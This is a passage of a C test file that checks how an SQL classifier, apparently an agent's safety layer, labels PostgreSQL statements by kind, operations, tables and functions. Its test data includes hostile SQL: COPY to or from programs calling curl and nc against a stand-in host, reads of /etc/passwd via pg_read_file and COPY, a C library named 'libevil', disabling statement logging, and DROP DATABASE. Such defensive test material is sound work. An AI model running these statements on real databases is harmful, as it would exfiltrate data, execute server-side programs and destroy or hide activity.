/*
 * SQL classification: what each statement does, which tables and functions
 * it touches, however it is spelled; and what happens to text that cannot
 * be classified (unparsable, too deep, ambiguous, unsafe encodings).
 */
#include <criterion/criterion.h>
#include <criterion/parameterized.h>
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <pg_query.h>
#include <pg_query/pg_query.pb-c.h>

#include "agent/sql.h"
#include "agent/sql_cache.h"
#include "agent/sql_shape.h"

/* ---- helpers ---------------------------------------------------------------- */

static void parse_ok(const char *sql, struct sql_parse *p)
{
	int rc = sql_parse(sql, strlen(sql), NULL, p);

	cr_assert_eq(rc, 0, "sql_parse returned %d for: %s", rc, sql);
	cr_assert(p->ok, "not classified (%s) : %s", p->error ? p->error : "?", sql);
}

static struct sql_statement *only_statement(const char *sql, struct sql_parse *p)
{
	parse_ok(sql, p);
	cr_assert_eq(p->n_stmts, 1, "%zu statements in: %s", p->n_stmts, sql);
	return &p->stmts[0];
}

/* Whether @names holds exactly the space-separated words of @spec (any order). */
static bool same_set(char *const *names, size_t n, const char *spec)
{
	char buf[512], *save = NULL;
	size_t want = 0;

	snprintf(buf, sizeof(buf), "%s", spec ? spec : "");
	for (char *w = strtok_r(buf, " ", &save); w; w = strtok_r(NULL, " ", &save)) {
		bool found = false;

		for (size_t i = 0; i < n; i++)
			found |= strcmp(names[i], w) == 0;
		if (!found)
			return false;
		want++;
	}
	return want == n;
}

static void format_set(char *out, size_t cap, char *const *names, size_t n)
{
	size_t at = 0;

	out[0] = '\0';
	for (size_t i = 0; i < n && at < cap; i++)
		at += (size_t)snprintf(out + at, cap - at, "%s%s", i ? " " : "", names[i]);
}

/* "[~]kind[@relation][?none|?some|?const]": ~ for an op that does not run now. */
static void format_op(char *out, size_t cap, const struct sql_op *op)
{
	const char *where = "";

	if (op->kind == SQL_UPDATE || op->kind == SQL_DELETE || op->kind == SQL_MERGE)
		where = !op->where_present ? "?none" : op->where_constant ? "?const" : "?some";
	snprintf(out, cap, "%s%s%s%s%s", op->executed ? "" : "~", sql_kind_name(op->kind),
		 op->relation ? "@" : "", op->relation ? op->relation : "", where);
}

static void format_ops(char *out, size_t cap, const struct sql_statement *st)
{
	size_t at = 0;

	out[0] = '\0';
	for (size_t i = 0; i < st->n_ops && at < cap; i++) {
		char one[256];

		format_op(one, sizeof(one), &st->ops[i]);
		at += (size_t)snprintf(out + at, cap - at, "%s%s", i ? " " : "", one);
	}
}

static bool same_str(const char *a, const char *b)
{
	return a == b || (a && b && strcmp(a, b) == 0);
}

/* ---- the table --------------------------------------------------------------- */

enum {
	F_PROGRAM = 1 << 0,	/* copy_program */
	F_FROM = 1 << 1,	/* copy_from */
	F_FILE = 1 << 2,	/* copy_server_file */
	F_EXEC_BODY = 1 << 3,	/* executes_body */
	F_OPAQUE = 1 << 4,	/* opaque_body */
};

struct sql_case {
	const char *sql;
	const char *kind;	/* of the statement */
	const char *ops;	/* all ops in order, as format_op writes them */
	const char *tables;	/* space-separated, any order; NULL: none */
	const char *functions;	/* likewise */
	unsigned flags;
	int params;		/* param_count */
	const char *prepare;	/* prepare_name, execute_name, variable; NULL: none */
	const char *execute;
	const char *variable;
};

static const struct sql_case cases[] = {
	/* spelling: comments, case, quoting, whitespace, qualification */
	{ .sql = "DROP TABLE x", "drop", "drop@x", "x" },
	{ .sql = "DROP/**/TABLE x", "drop", "drop@x", "x" },
	{ .sql = "DROP/* a comment */TABLE/**/x", "drop", "drop@x", "x" },
	{ .sql = "drop table X", "drop", "drop@x", "x" },
	{ .sql = "DrOp TaBlE \"X\"", "drop", "drop@X", "X" },
	{ .sql = "-- c\nDELETE FROM t", "delete", "delete@t?none", "t" },
	{ .sql = "/* multi\nline */ DELETE FROM t", "delete", "delete@t?none", "t" },
	{ .sql = "/* nested /* comment */ still */ DELETE FROM t", "delete", "delete@t?none", "t" },
	{ .sql = "DELETE -- trailing comment\nFROM t", "delete", "delete@t?none", "t" },
	{ .sql = "DELETE FROM \"Orders\"", "delete", "delete@Orders?none", "Orders" },
	{ .sql = "dElEtE fRoM t", "delete", "delete@t?none", "t" },
	{ .sql = "DELETE\n\tFROM\r\n  t\n", "delete", "delete@t?none", "t" },
	{ .sql = "  \n\t DELETE FROM t ;  ", "delete", "delete@t?none", "t" },
	{ .sql = "SELECT * FROM \"public\".\"secrets\"", "select", "select", "public.secrets" },
	{ .sql = "SELECT * FROM public.secrets", "select", "select", "public.secrets" },
	{ .sql = "SELECT * FROM PUBLIC.SECRETS", "select", "select", "public.secrets" },
	{ .sql = "SELECT * FROM \"PUBLIC\".secrets", "select", "select", "PUBLIC.secrets" },
	{ .sql = "SELECT * FROM mydb.public.secrets", "select", "select", "mydb.public.secrets" },
	{ .sql = "SELECT * FROM U&\"secr\\0065ts\"", "select", "select", "secrets" },
	{ .sql = "SELECT * FROM U&\"secr!0065ts\" UESCAPE '!'", "select", "select", "secrets" },
	{ .sql = "SELECT * FROM \"secrets\"", "select", "select", "secrets" },
	{ .sql = "SELECT * FROM secrets AS s", "select", "select", "secrets" },
	{ .sql = "SELECT * FROM ONLY secrets", "select", "select", "secrets" },
	{ .sql = "SELECT * FROM secrets*", "select", "select", "secrets" },
	{ .sql = "TABLE secrets", "select", "select", "secrets" },
	{ .sql = "SELECT * FROM café", "select", "select", "café" },
	{ .sql = "SELECT * FROM t, t, T, \"t\"", "select", "select", "t" },

	/* where tables hide: subqueries, joins, CTEs, set operations, lateral */
	{ .sql = "SELECT * FROM (SELECT * FROM secrets) s", "select", "select", "secrets" },
	{ .sql = "SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c USING (id)", "select", "select", "a b c" },
	{ .sql = "SELECT * FROM a NATURAL JOIN b CROSS JOIN s.c", "select", "select", "a b s.c" },
	{ .sql = "SELECT * FROM a WHERE id IN (SELECT id FROM b)", "select", "select", "a b" },
	{ .sql = "SELECT * FROM a WHERE EXISTS (SELECT 1 FROM b WHERE b.x = a.x)", "select", "select", "a b" },
	{ .sql = "SELECT (SELECT max(x) FROM b) FROM a", "select", "select", "a b", "max" },
	{ .sql = "SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.id = a.id) l", "select", "select", "a b" },
	{ .sql = "SELECT * FROM a UNION SELECT * FROM b EXCEPT SELECT * FROM c INTERSECT SELECT * FROM d",
	  "select", "select", "a b c d" },
	{ .sql = "(SELECT * FROM a) UNION ALL (SELECT * FROM b ORDER BY 1 LIMIT 1)", "select", "select", "a b" },
	{ .sql = "WITH x AS (SELECT * FROM secrets) SELECT * FROM x", "select", "select", "secrets x" },
	{ .sql = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 9) SELECT * FROM r",
	  "select", "select", "r" },
	{ .sql = "SELECT * FROM t WHERE a = (SELECT b FROM (SELECT b FROM (SELECT b FROM deep) x) y)",
	  "select", "select", "t deep" },
	{ .sql = "SELECT * FROM t TABLESAMPLE SYSTEM (10)", "select", "select", "t" },
	{ .sql = "SELECT * FROM xmltable('/r' PASSING (SELECT x FROM secrets) COLUMNS a int)", "select",
	  "select", "secrets" },
	{ .sql = "SELECT * FROM t FOR UPDATE OF t NOWAIT", "select", "select", "t" },
	{ .sql = "SELECT * FROM t WHERE x = ANY(ARRAY(SELECT y FROM u))", "select", "select", "t u" },
	{ .sql = "VALUES (1), (2)", "select", "select" },
	{ .sql = "SELECT 1", "select", "select" },

	/* data-modifying CTEs are what the statement does */
	{ .sql = "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "select",
	  "select delete@orders?none", "d orders" },
	{ .sql = "WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) INSERT INTO log SELECT * FROM u",
	  "insert", "insert@log update@t?some", "log t u" },
	{ .sql = "WITH a AS (WITH b AS (DELETE FROM t RETURNING 1) SELECT * FROM b) SELECT * FROM a",
	  "select", "select delete@t?none", "a b t" },
	{ .sql = "WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE) SELECT 1",
	  "select", "select merge@t?some delete@t?some", "t s" },
	{ .sql = "WITH i AS (INSERT INTO t VALUES (1) RETURNING id) DELETE FROM u WHERE id IN (SELECT id FROM i)",
	  "delete", "delete@u?some insert@t", "i t u" },

	/* EXPLAIN: ANALYZE runs the statement */
	{ .sql = "EXPLAIN DELETE FROM t", "explain", "explain ~delete@t?none", "t" },
	{ .sql = "EXPLAIN SELECT * FROM secrets", "explain", "explain ~select", "secrets" },
	{ .sql = "EXPLAIN ANALYZE DELETE FROM t", "explain", "explain delete@t?none", "t", .flags = F_EXEC_BODY },
	{ .sql = "explain analyse delete from t", "explain", "explain delete@t?none", "t", .flags = F_EXEC_BODY },
	{ .sql = "EXPLAIN ANALYZE VERBOSE UPDATE t SET a = 1", "explain", "explain update@t?none", "t",
	  .flags = F_EXEC_BODY },
	{ .sql = "EXPLAIN (ANALYZE) DELETE FROM t", "explain", "explain delete@t?none", "t", .flags = F_EXEC_BODY },
	{ .sql = "EXPLAIN (ANALYSE, BUFFERS) DELETE FROM t", "explain", "explain delete@t?none", "t",
	  .flags = F_EXEC_BODY },
	{ .sql = "EXPLAIN (ANALYZE true) DELETE FROM t", "explain", "explain delete@t?none", "t",
	  .flags = F_EXEC_BODY },
	{ .sql = "EXPLAIN (ANALYZE 1) DELETE FROM t", "explain", "explain delete@t?none", "t", .flags = F_EXEC_BODY },
	{ .sql = "EXPLAIN (ANALYZE on) DELETE FROM t", "explain", "explain delete@t?none", "t", .flags = F_EXEC_BODY },
	{ .sql = "EXPLAIN (ANALYZE false) DELETE FROM t", "explain", "explain ~delete@t?none", "t" },
	{ .sql = "EXPLAIN (ANALYZE 0) DELETE FROM t", "explain", "explain ~delete@t?none", "t" },
	{ .sql = "EXPLAIN (ANALYZE OFF, VERBOSE) DELETE FROM t", "explain", "explain ~delete@t?none", "t" },
	{ .sql = "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t", "explain", "explain delete@t?none", "t",
	  .flags = F_EXEC_BODY },
	{ .sql = "EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM t", "explain", "explain ~delete@t?none", "t" },
	{ .sql = "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", "explain",
	  "explain select delete@t?none", "d t", .flags = F_EXEC_BODY },

	/* PREPARE / EXECUTE */
	{ .sql = "PREPARE p AS DELETE FROM t", "prepare", "prepare ~delete@t?none", "t", .prepare = "p" },
	{ .sql = "PREPARE p (int) AS SELECT * FROM secrets WHERE id = $1", "prepare", "prepare ~select",
	  "secrets", .params = 1, .prepare = "p" },
	{ .sql = "PREPARE \"P\" AS UPDATE t SET a = $2 WHERE id = $1", "prepare", "prepare ~update@t?some", "t",
	  .params = 2, .prepare = "P" },
	{ .sql = "EXECUTE p", "execute", "execute", .execute = "p" },
	{ .sql = "EXECUTE P(1, 'x')", "execute", "execute", .execute = "p" },
	{ .sql = "EXPLAIN ANALYZE EXECUTE p(1)", "explain", "explain execute", .flags = F_EXEC_BODY,
	  .execute = "p" },
	{ .sql = "CREATE TABLE x AS EXECUTE p", "create", "create@x execute", "x", .execute = "p" },
	{ .sql = "DEALLOCATE p", "deallocate", "deallocate" },
	{ .sql = "DEALLOCATE ALL", "deallocate", "deallocate" },

	/* COPY */
	{ .sql = "COPY t TO PROGRAM 'gzip > /tmp/t.gz'", "copy", "copy@t select@t", "t", .flags = F_PROGRAM },
	{ .sql = "COPY t FROM PROGRAM 'curl http://x'", "copy", "copy@t insert@t", "t",
	  .flags = F_PROGRAM | F_FROM },
	{ .sql = "COPY (SELECT * FROM secrets) TO PROGRAM 'nc x 1'", "copy", "copy select", "secrets",
	  .flags = F_PROGRAM },
	{ .sql = "COPY t FROM STDIN", "copy", "copy@t insert@t", "t", .flags = F_FROM },
	{ .sql = "copy s.t (a, b) from stdin with (format csv)", "copy", "copy@s.t insert@s.t", "s.t",
	  .flags = F_FROM },
	{ .sql = "COPY t TO STDOUT", "copy", "copy@t select@t", "t" },
	{ .sql = "COPY t TO '/tmp/t.csv'", "copy", "copy@t select@t", "t", .flags = F_FILE },
	{ .sql = "COPY t FROM '/etc/passwd'", "copy", "copy@t insert@t", "t", .flags = F_FILE | F_FROM },
	{ .sql = "COPY (SELECT * FROM secrets) TO STDOUT", "copy", "copy select", "secrets" },
	{ .sql = "COPY (DELETE FROM t RETURNING *) TO STDOUT", "copy", "copy delete@t?none", "t" },
	{ .sql = "COPY t FROM STDIN WHERE a > lower('x')", "copy", "copy@t insert@t", "t", "lower", .flags = F_FROM },

	/* functions, wherever they are called */
	{ .sql = "SELECT * FROM t WHERE x = (SELECT pg_read_file('/etc/passwd'))", "select", "select", "t",
	  "pg_read_file" },
	{ .sql = "SELECT pg_catalog.pg_read_file('/etc/passwd')", "select", "select", NULL,
	  "pg_catalog.pg_read_file" },
	{ .sql = "SELECT PG_READ_FILE('x')", "select", "select", NULL, "pg_read_file" },
	{ .sql = "SELECT \"pg_read_file\"('x')", "select", "select", NULL, "pg_read_file" },
	{ .sql = "SELECT U&\"pg_read_fil\\0065\"('x')", "select", "select", NULL, "pg_read_file" },
	{ .sql = "SELECT * FROM dblink('host=x', 'SELECT * FROM secrets') AS t(a int)", "select", "select",
	  NULL, "dblink" },
	{ .sql = "SELECT lo_export(12345, '/tmp/x')", "select", "select", NULL, "lo_export" },
	{ .sql = "SELECT * FROM pg_ls_dir('/')", "select", "select", NULL, "pg_ls_dir" },
	{ .sql = "SELECT count(*) FROM t GROUP BY a HAVING sum(b) > 1", "select", "select", "t", "count sum" },
	{ .sql = "SELECT * FROM t ORDER BY lower(name)", "select", "select", "t", "lower" },
	{ .sql = "SELECT CASE WHEN a THEN pg_sleep(10) END FROM t", "select", "select", "t", "pg_sleep" },
	{ .sql = "SELECT array_agg(x ORDER BY y) FILTER (WHERE f(z)) OVER (PARTITION BY g(w)) FROM t", "select",
	  "select", "t", "array_agg f g" },
	{ .sql = "SELECT now()::text, current_user", "select", "select", NULL, "now" },
	{ .sql = "SELECT EXTRACT(year FROM now())", "select", "select", NULL, "pg_catalog.extract now" },
	{ .sql = "SELECT coalesce(a, b), greatest(a, b) FROM t", "select", "select", "t" },
	{ .sql = "SELECT query_to_xml('select * from secrets', true, true, '')", "select", "select", NULL,
	  "query_to_xml" },
	{ .sql = "SELECT set_config('search_path', 'billing', false)", "select", "select", NULL, "set_config" },
	{ .sql = "SELECT f(g(h(1)))", "select", "select", NULL, "f g h" },
	{ .sql = "SELECT s.f(1), S.F(2), \"s\".\"f\"(3)", "select", "select", NULL, "s.f" },
	{ .sql = "INSERT INTO t (a) VALUES (nextval('s'))", "insert", "insert@t", "t", "nextval" },
	{ .sql = "CALL do_things(1, pg_read_file('x'))", "call", "call", NULL, "do_things pg_read_file" },
	{ .sql = "CALL s.proc()", "call", "call", NULL, "s.proc" },

	/* UPDATE / DELETE and their WHERE */
	{ .sql = "UPDATE t SET a = 1 WHERE CURRENT OF c", "update", "update@t?some", "t" },
	{ .sql = "UPDATE t SET a = 1", "update", "update@t?none", "t" },
	{ .sql = "UPDATE t SET a = 1 WHERE true", "update", "update@t?const", "t" },
	{ .sql = "UPDATE t SET a = 1 WHERE 1 = 1", "update", "update@t?const", "t" },
	{ .sql = "UPDATE t SET a = 1 WHERE 'x' = 'x' OR false", "update", "update@t?const", "t" },
	{ .sql = "UPDATE t SET a = 1 WHERE id = $1", "update", "update@t?some", "t", .params = 1 },
	{ .sql = "UPDATE t SET a = s.a FROM s WHERE s.id = t.id", "update", "update@t?some", "t s" },
	{ .sql = "UPDATE t SET a = s.a FROM s", "update", "update@t?none", "t s" },
	{ .sql = "UPDATE ONLY billing.invoices AS i SET paid = true WHERE i.id = 3", "update",
	  "update@billing.invoices?some", "billing.invoices" },
	{ .sql = "UPDATE t SET a = (SELECT b FROM secrets) WHERE id = 1 RETURNING (SELECT c FROM other)",
	  "update", "update@t?some", "t secrets other" },
	{ .sql = "DELETE FROM t WHERE id = 5 RETURNING *", "delete", "delete@t?some", "t" },
	{ .sql = "DELETE FROM t USING u WHERE t.id = u.id", "delete", "delete@t?some", "t u" },
	{ .sql = "DELETE FROM t USING u", "delete", "delete@t?none", "t u" },
	{ .sql = "DELETE FROM t WHERE EXISTS (SELECT 1)", "delete", "delete@t?const", "t" },
	{ .sql = "DELETE FROM t WHERE NOT false", "delete", "delete@t?const", "t" },
	{ .sql = "DELETE FROM t WHERE $1", "delete", "delete@t?const", "t", .params = 1 },
	{ .sql = "DELETE FROM t WHERE t", "delete", "delete@t?some", "t" },
	{ .sql = "DELETE FROM ONLY t WHERE id IN (SELECT id FROM u)", "delete", "delete@t?some", "t u" },

	/* MERGE and upserts do what their actions do */
	{ .sql = "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
	  "WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
	  "merge", "merge@t?some update@t?some insert@t", "t s" },
	{ .sql = "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "merge", "merge@t?const delete@t?const",
	  "t s" },
	{ .sql = "MERGE INTO t USING s ON true WHEN MATCHED AND t.a > 1 THEN DELETE", "merge",
	  "merge@t?const delete@t?some", "t s" },
	{ .sql = "MERGE INTO t USING (SELECT * FROM secrets) s ON t.id = s.id WHEN MATCHED THEN DO NOTHING",
	  "merge", "merge@t?some", "t secrets" },
	{ .sql = "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "insert", "insert@t", "t" },
	{ .sql = "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a", "insert",
	  "insert@t update@t?some", "t" },
	{ .sql = "INSERT INTO t SELECT * FROM secrets", "insert", "insert@t", "t secrets" },
	{ .sql = "INSERT INTO s.t DEFAULT VALUES", "insert", "insert@s.t", "s.t" },
	{ .sql = "INSERT INTO t VALUES ((SELECT secret FROM secrets LIMIT 1))", "insert", "insert@t",
	  "t secrets" },
	{ .sql = "INSERT INTO t VALUES ($1, $2), ($3, $10)", "insert", "insert@t", "t", .params = 10 },

	/* creating from queries */
	{ .sql = "SELECT * INTO newt FROM old", "create", "create@newt select", "newt old" },
	{ .sql = "SELECT * INTO TEMP newt FROM old", "create", "create@newt select", "newt old" },
	{ .sql = "CREATE TABLE x AS SELECT * FROM secrets", "create", "create@x select", "x secrets" },
	{ .sql = "CREATE TABLE x AS SELECT * FROM secrets WITH NO DATA", "create", "create@x ~select",
	  "x secrets" },
	{ .sql = "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", "create", "create@mv select", "mv t" },
	{ .sql = "CREATE VIEW v AS SELECT * FROM secrets", "create", "create@v ~select", "v secrets" },
	{ .sql = "CREATE OR REPLACE VIEW s.v AS SELECT f(a) FROM t", "create", "create@s.v ~select", "s.v t", "f" },

	/* TRUNCATE and DROP: one op per relation */
	{ .sql = "TRUNCATE a, b", "truncate", "truncate@a truncate@b", "a b" },
	{ .sql = "TRUNCATE TABLE ONLY s.a RESTART IDENTITY CASCADE", "truncate", "truncate@s.a", "s.a" },
	{ .sql = "DROP TABLE a, s.b", "drop", "drop@a drop@s.b", "a s.b" },
	{ .sql = "DROP TABLE IF EXISTS \"A\" CASCADE", "drop", "drop@A", "A" },
	{ .sql = "DROP VIEW v", "drop", "drop@v", "v" },
	{ .sql = "DROP MATERIALIZED VIEW mv", "drop", "drop@mv", "mv" },
	{ .sql = "DROP INDEX CONCURRENTLY s.i", "drop", "drop@s.i", "s.i" },
	{ .sql = "DROP SEQUENCE s", "drop", "drop@s", "s" },
	{ .sql = "DROP FOREIGN TABLE f", "drop", "drop@f", "f" },
	{ .sql = "DROP TRIGGER tr ON s.t", "drop", "drop@s.t", "s.t" },
	{ .sql = "DROP POLICY p ON t", "drop", "drop@t", "t" },
	{ .sql = "DROP RULE r ON t", "drop", "drop@t", "t" },
	{ .sql = "DROP SCHEMA billing CASCADE", "drop", "drop" },
	{ .sql = "DROP DATABASE prod", "drop", "drop" },
	{ .sql = "DROP FUNCTION f(int)", "drop", "drop" },
	{ .sql = "DROP ROLE bob", "drop", "drop" },
	{ .sql = "DROP OWNED BY bob", "drop", "drop" },
	{ .sql = "DROP EXTENSION dblink", "drop", "drop" },
	{ .sql = "DROP TYPE mood", "drop", "drop" },

	/* ALTER */
	{ .sql = "ALTER TABLE t ADD COLUMN c int", "alter", "alter@t", "t" },
	{ .sql = "ALTER TABLE t RENAME TO u", "alter", "alter@t", "t" },
	{ .sql = "ALTER TABLE t RENAME COLUMN a TO b", "alter", "alter@t", "t" },
	{ .sql = "ALTER TABLE s.t ALTER COLUMN c TYPE int USING length(c)", "alter", "alter@s.t", "s.t",
	  "length" },
	{ .sql = "ALTER TABLE t OWNER TO bob", "alter", "alter@t", "t" },
	{ .sql = "ALTER TABLE t SET SCHEMA s", "alter", "alter@t", "t" },
	{ .sql = "ALTER TABLE p ATTACH PARTITION c FOR VALUES IN (1)", "alter", "alter@p", "p c" },
	{ .sql = "ALTER SEQUENCE s RESTART", "alter", "alter@s", "s" },
	{ .sql = "ALTER ROLE bob SUPERUSER", "alter", "alter" },
	{ .sql = "ALTER SYSTEM SET log_statement = 'none'", "alter", "alter" },
	{ .sql = "ALTER DATABASE d SET work_mem = '1GB'", "alter", "alter" },
	{ .sql = "ALTER FUNCTION f() SECURITY DEFINER", "alter", "alter" },
	{ .sql = "ALTER SCHEMA s RENAME TO t", "alter", "alter" },
	{ .sql = "REASSIGN OWNED BY bob TO alice", "alter", "alter" },

	/* CREATE */
	{ .sql = "CREATE TABLE t (id int DEFAULT nextval('s'), c text)", "create", "create@t", "t", "nextval" },
	{ .sql = "CREATE TABLE x (a text DEFAULT pg_read_file('/etc/passwd'))", "create", "create@x", "x",
	  "pg_read_file" },
	{ .sql = "CREATE TEMP TABLE t (a int)", "create", "create@t", "t" },
	{ .sql = "CREATE TABLE t (LIKE secrets)", "create", "create@t", "t secrets" },
	{ .sql = "CREATE TABLE t PARTITION OF p FOR VALUES IN (1)", "create", "create@t", "t p" },
	{ .sql = "CREATE FOREIGN TABLE f (a int) SERVER srv", "create", "create@f", "f" },
	{ .sql = "CREATE INDEX ON t (lower(c))", "create", "create@t", "t", "lower" },
	{ .sql = "CREATE UNIQUE INDEX i ON s.t (a) WHERE b > 0", "create", "create@s.t", "s.t" },
	{ .sql = "CREATE SEQUENCE s", "create", "create@s", "s" },
	{ .sql = "CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM t", "create",
	  "create create@t create@v ~select", "t v" },
	{ .sql = "CREATE ROLE bob SUPERUSER", "create", "create" },
	{ .sql = "CREATE DATABASE d", "create", "create" },
	{ .sql = "CREATE EXTENSION dblink", "create", "create" },
	{ .sql = "CREATE TYPE mood AS ENUM ('sad', 'ok')", "create", "create" },
	/* a composite type is a relation (pg_class) too */
	{ .sql = "CREATE TYPE pair AS (a int, b int)", "create", "create", "pair" },
	{ .sql = "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "create", "create@t",
	  "t" },
	{ .sql = "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u", "create", "create@t ~delete@u?none",
	  "t u" },
	{ .sql = "CREATE RULE r AS ON SELECT TO t DO INSTEAD (DELETE FROM u; NOTIFY ch)", "create",
	  "create@t ~delete@u?none ~notify", "t u" },
	{ .sql = "CREATE POLICY p ON t USING (owner = current_user)", "create", "create@t", "t" },
	{ .sql = "CREATE STATISTICS st ON a, b FROM t", "create", "create", "t" },
	{ .sql = "IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public", "create", "create" },
	{ .sql = "CREATE PUBLICATION p FOR TABLE t", "create", "create", "t" },

	/* bodies the parser cannot see, and one it can */
	{ .sql = "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "create", "create",
	  .flags = F_OPAQUE },
	{ .sql = "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$", "create", "create",
	  .flags = F_OPAQUE },
	{ .sql = "CREATE FUNCTION f() RETURNS int AS 'libevil', 'f' LANGUAGE c", "create", "create",
	  .flags = F_OPAQUE },
	{ .sql = "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END",
	  "create", "create ~delete@t?none ~select", "t" },
	{ .sql = "CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql RETURN g(a) + 1", "create", "create", NULL,
	  "g" },
	{ .sql = "DO $$ BEGIN DELETE FROM t; END $$", "do", "do", .flags = F_OPAQUE },
	{ .sql = "DO LANGUAGE plpgsql 'BEGIN EXECUTE ''DROP TABLE t''; END'", "do", "do", .flags = F_OPAQUE },

	/* GRANT / REVOKE */
	{ .sql = "GRANT SELECT ON secrets TO bob", "grant", "grant@secrets", "secrets" },
	{ .sql = "GRANT SELECT, INSERT ON TABLE a, s.b TO bob", "grant", "grant@a grant@s.b", "a s.b" },
	{ .sql = "GRANT ALL ON ALL TABLES IN SCHEMA billing TO bob", "grant", "grant" },
	{ .sql = "GRANT USAGE ON SEQUENCE s TO bob", "grant", "grant@s", "s" },
	{ .sql = "GRANT admin TO bob", "grant", "grant" },
	{ .sql = "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO bob", "grant", "grant" },
	{ .sql = "REVOKE SELECT ON secrets FROM bob", "revoke", "revoke@secrets", "secrets" },
	{ .sql = "REVOKE ALL ON SCHEMA s FROM bob", "revoke", "revoke" },
	{ .sql = "REVOKE admin FROM bob", "revoke", "revoke" },
	{ .sql = "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "grant", "grant" },
	{ .sql = "ALTER DEFAULT PRIVILEGES IN SCHEMA s REVOKE SELECT ON TABLES FROM bob", "revoke", "revoke" },

	/* other DDL-ish and maintenance */
	{ .sql = "COMMENT ON TABLE secrets IS 'x'", "comment", "comment@secrets", "secrets" },
	{ .sql = "COMMENT ON COLUMN s.t.c IS 'x'", "comment", "comment@s.t", "s.t" },
	{ .sql = "COMMENT ON SCHEMA s IS 'x'", "comment", "comment" },
	{ .sql = "SECURITY LABEL ON TABLE t IS 'secret'", "security_label", "security_label@t", "t" },
	{ .sql = "REFRESH MATERIALIZED VIEW CONCURRENTLY mv", "refresh", "refresh@mv", "mv" },
	{ .sql = "CLUSTER t USING i", "cluster", "cluster@t", "t" },
	{ .sql = "REINDEX TABLE t", "reindex", "reindex@t", "t" },
	{ .sql = "VACUUM FULL t", "vacuum", "vacuum@t", "t" },
	{ .sql = "VACUUM", "vacuum", "vacuum" },
	{ .sql = "VACUUM (ANALYZE) a, b", "vacuum", "vacuum@a vacuum@b", "a b" },
	{ .sql = "ANALYZE t", "analyze", "analyze@t", "t" },
	{ .sql = "LOCK TABLE a, b IN ACCESS EXCLUSIVE MODE", "lock", "lock@a lock@b", "a b" },

	/* session */
	{ .sql = "SET search_path TO billing", "set", "set", .variable = "search_path" },
	{ .sql = "SET LOCAL statement_timeout = 0", "set", "set", .variable = "statement_timeout" },
	{ .sql = "set Search_Path = public", "set", "set", .variable = "search_path" },
	{ .sql = "SET standard_conforming_strings = off", "set", "set",
	  .variable = "standard_conforming_strings" },
	{ .sql = "RESET ALL", "set", "set" },
	{ .sql = "RESET role", "set", "set", .variable = "role" },
	{ .sql = "SET ROLE admin", "set", "set", .variable = "role" },
	{ .sql = "SET SESSION AUTHORIZATION bob", "set", "set", .variable = "session_authorization" },
	{ .sql = "SET TIME ZONE 'UTC'", "set", "set", .variable = "timezone" },
	{ .sql = "SET CONSTRAINTS ALL DEFERRED", "set", "set" },
	{ .sql = "SHOW search_path", "show", "show", .variable = "search_path" },
	{ .sql = "SHOW ALL", "show", "show", .variable = "all" },
	{ .sql = "BEGIN", "transaction", "transaction" },
	{ .sql = "START TRANSACTION ISOLATION LEVEL SERIALIZABLE READ ONLY", "transaction", "transaction" },
	{ .sql = "COMMIT", "transaction", "transaction" },
	{ .sql = "ROLLBACK TO SAVEPOINT s", "transaction", "transaction" },
	{ .sql = "PREPARE TRANSACTION 'x'", "transaction", "transaction" },
	{ .sql = "LISTEN ch", "listen", "listen" },
	{ .sql = "UNLISTEN *", "unlisten", "unlisten" },
	{ .sql = "NOTIFY ch, 'x'", "notify", "notify" },
	{ .sql = "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM secrets", "declare", "declare select", "secrets" },
	{ .sql = "FETCH 10 FROM c", "fetch", "fetch" },
	{ .sql = "MOVE NEXT IN c", "fetch", "fetch" },
	{ .sql = "CLOSE c", "close", "close" },
	{ .sql = "DISCARD ALL", "discard", "discard" },
	{ .sql = "CHECKPOINT", "checkpoint", "checkpoint" },
	{ .sql = "LOAD 'auto_explain'", "load", "load" },
	{ .sql = "SELECT $1, $2, $10", "select", "select", .params = 10 },
	{ .sql = "SELECT * FROM t WHERE a = ANY($1::int[]) LIMIT $2", "select", "select", "t", .params = 2 },
};

#define N_CASES (sizeof(cases) / sizeof(cases[0]))

/*
 * Criterion may run each case in a fresh process, where pointers from
 * this one mean nothing: the parameter is the index into cases[].
 */
ParameterizedTestParameters(sql, classifies)
{
	static size_t index[N_CASES];

	for (size_t i = 0; i < N_CASES; i++)
		index[i] = i;
	return cr_make_param_array(size_t, index, N_CASES);
}

ParameterizedTest(size_t *i, sql, classifies)
{
	const struct sql_case *c = &cases[*i];
	struct sql_parse p;
	struct sql_statement *st = only_statement(c->sql, &p);
	char got[1024];

	cr_expect_str_eq(sql_kind_name(st->kind), c->kind, "kind of: %s", c->sql);
	format_ops(got, sizeof(got), st);
	cr_expect_str_eq(got, c->ops, "ops of: %s", c->sql);
